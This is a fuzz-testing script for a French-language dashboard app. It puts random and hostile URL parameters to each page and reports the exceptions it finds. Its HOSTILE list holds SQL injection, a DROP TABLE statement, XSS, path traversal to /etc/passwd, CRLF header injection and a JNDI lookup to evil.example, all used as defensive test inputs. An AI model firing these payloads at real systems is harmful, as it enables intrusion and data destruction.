"""Addresses that no page made: random sets of parameters, known, hostile and mixed, put to every page.

``python -m tests.campaign.addresses --count 10000 --seed 1`` builds the demonstration, opens each page with each its
share of the sets, prints what was found and ends with 1 if an exception was shown. Nothing outside a temporary folder
is touched. ``--warehouse DIR`` takes a warehouse that is there already.
"""

import argparse
import os
import random
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from dashboard.roles import COORDINATOR
from dashboard.ui import url_state
from dashboard.ui.navigation import PAGES
from etl import demo
from etl.build import build
from tests.app.screen import Screen
from tests.campaign.kills import environment, silent

# What somebody would try: quotes and statements, markup, paths, formulas, codes that nearly are, numbers, odd letters.
HOSTILE = (
    "", " ", "'", '"', "''", "' OR 1=1 --", "'; DROP TABLE warehouse.marts.presence; --", "$1", "$period", "{0}", "%s",
    "%", "_", "*", "?", "\\", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "[x](http://evil.example)", ":red[x]", "**x**", "$x$", "`x`", "../../etc/passwd", "/etc/passwd", "C:\\Windows",
    "file:///etc/passwd", "http://evil.example/x.csv", "=1+1", "@SUM(A1)", "None", "null", "nan", "NaN", "inf", "-inf",
    "true", "-1", "0", "1e308", "99999999999999999999", "0x10", "1;2", "1,2", "²", "٣", "2025-Q5", "2025-13", "9999-Q1",
    "0000", "2025-Q1 ", "CF", "CF99", "cf11", "adm0", "adm3", "cod_v99", "__class__", "__proto__", "constructor",
    "é" * 300, "x" * 5_000, "\u202eabc", "\u200b", "\x00", "a\x00b", "\r\nSet-Cookie: a=b", "\ud7ff", "\U0001f600",
    "ﷺ", "İ", "ß", "${jndi:ldap://evil.example}", "{{7*7}}", "&amp;", "%27", "%00", "a&b=c", "#x",
)  # fmt: skip
STRANGE_NAMES = (
    "",
    "lang[]",
    "__proto__",
    "embed",
    "embed_options",
    "page",
    "x" * 500,
    "période",
    "a b",
    "<b>",
    "choices",
)

# On this machine the reader is of the coordination.
OFFERED = [entry.file for entry in PAGES if COORDINATOR in entry.readers]


@dataclass
class Campaign:
    """What was found: how many sets were put, and each exception that a page showed."""

    put: int = 0
    faults: list[str] = field(default_factory=list)


def campaign(warehouse: Path, count: int, chance: random.Random) -> Campaign:
    """Put the sets to each page in turn; a visitor stays for about ten of them, so that one meets what others left."""
    found = Campaign()
    with environment("MAILLAGE_WAREHOUSE", str(warehouse)), remembering() as known:
        screens = {page: Screen.opened(page, {}) for page in OFFERED}
        for number in range(count):
            page = OFFERED[number % len(OFFERED)]
            query = random_set(chance, known)
            if chance.random() < 0.1:
                screens[page] = Screen.opened(page, query)
            else:
                screens[page].go(page, query)
            judge(found, page, query, screens[page])
    return found


def judge(found: Campaign, page: str, query: Mapping[str, object], screen: Screen) -> None:
    found.put += 1
    shown = [*screen.failures, *(error.value for error in screen.app.error)]
    if shown or not screen.app.title:
        found.faults.append(f"{page} {query!r:.300}: {shown or 'no title'}")


@contextmanager
def remembering() -> Iterator[dict[str, set[str]]]:
    """The parameters that pages ask for, with the codes that each knows, as they come up."""
    known: dict[str, set[str]] = {}
    real = url_state.code

    def remembered(name: str, codes: Mapping[str, str], default: str) -> str:
        known.setdefault(name, set()).update(codes)
        return real(name, codes, default)

    url_state.code = remembered
    try:
        yield known
    finally:
        url_state.code = real


def random_set(chance: random.Random, known: Mapping[str, set[str]]) -> dict[str, str | list[str]]:
    """Up to eight parameters: most of a known name, half of them with a code that some parameter knows."""
    query: dict[str, str | list[str]] = {}
    names = sorted(known)
    for _ in range(chance.randint(0, 8)):
        name = chance.choice(names) if chance.random() < 0.85 else chance.choice(STRANGE_NAMES)
        query[name] = random_value(chance, known, name)
        if chance.random() < 0.05:
            query[name] = [random_value(chance, known, name) for _ in range(chance.randint(0, 3))]
    return query


def random_value(chance: random.Random, known: Mapping[str, set[str]], name: str) -> str:
    throw = chance.random()
    if throw < 0.4 and name in known:
        return chance.choice(sorted(known[name]))
    if throw < 0.55:
        return chance.choice(sorted(known[chance.choice(sorted(known))]))
    if throw < 0.7 and name in known:
        code = chance.choice(sorted(known[name]))
        return chance.choice([code.lower(), code.upper(), code[:-1], code + chance.choice(HOSTILE), f" {code}"])
    if throw < 0.75:
        return "".join(chr(chance.randrange(0x20, 0xD7FF)) for _ in range(chance.randint(1, 40)))
    return chance.choice(HOSTILE)


def demonstration(folder: Path) -> Path:
    demo.write(folder / "sources")
    build(folder / "sources", folder / "warehouse", None, "fr", silent)
    return folder / "warehouse"


def main(arguments: Sequence[str] | None = None, tell: Callable[[str], None] = print) -> int:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--warehouse", type=Path)
    options = parser.parse_args(arguments)
    os.environ.pop("MAILLAGE_AUDIENCE", None)  # all pages
    with tempfile.TemporaryDirectory(prefix="maillage-addresses-") as folder:
        warehouse = options.warehouse or demonstration(Path(folder))
        begin = time.perf_counter()
        found = campaign(warehouse, options.count, random.Random(options.seed))
    tell(f"{found.put:,} addresses in {time.perf_counter() - begin:.0f} s, seed {options.seed}")
    for fault in found.faults[:40]:
        tell(f"FAULT {fault}")
    tell(f"exceptions shown: {len(found.faults)}")
    return 1 if found.faults else 0


if __name__ == "__main__":
    sys.exit(main())
